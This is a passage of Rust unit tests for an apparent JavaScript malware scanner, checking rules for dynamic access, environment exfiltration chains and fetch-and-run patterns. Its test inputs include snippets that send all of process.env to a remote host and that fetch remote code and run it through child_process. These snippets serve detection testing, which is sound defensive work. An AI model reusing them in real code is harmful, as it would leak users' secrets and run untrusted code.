        assert!(has("const t = {p: process}; t[k].binding", RuleId::DynamicAccess));
        assert!(has(
            "const t = {o: {g: globalThis}}; const {[k]: v} = t.o",
            RuleId::DynamicAccess
        ));
        // An ordinary table read with a computed key is not dynamic access.
        assert!(!has("const t = {a: 1, f() {}}; t[k]()", RuleId::DynamicAccess));
        assert_eq!(rules("const o = {g: Math}; o.g.eval(x)"), Vec::<RuleId>::new());
    }

    #[test]
    fn one_variable_read_with_a_computed_name_is_not_the_environment() {
        let one = "const env = process.env; function get(k) { return env[k] } fetch(u, {body: get('PROXY')})";
        assert!(!rules(one).contains(&RuleId::ExfiltrationChain), "{:?}", rules(one));
        let all = "const env = process.env; fetch(u, {body: JSON.stringify(env)})";
        assert!(rules(all).contains(&RuleId::ExfiltrationChain), "{:?}", rules(all));
    }

    #[test]
    fn chains_need_a_source_and_a_sink() {
        let exfil =
            "const https = require('https'); const d = JSON.stringify(process.env); https.request({host: 'x'}).end(d)";
        assert!(rules(exfil).contains(&RuleId::ExfiltrationChain));
        let benign = "const https = require('https'); const t = process.env.TOKEN; https.get({headers: {a: t}})";
        assert!(
            !rules(benign).contains(&RuleId::ExfiltrationChain),
            "{:?}",
            rules(benign)
        );
        let run = "const cp = require('child_process'); fetch(u).then(r => r.text()).then(code => cp.exec(code))";
        assert!(rules(run).contains(&RuleId::FetchAndRun), "{:?}", rules(run));
    }
}
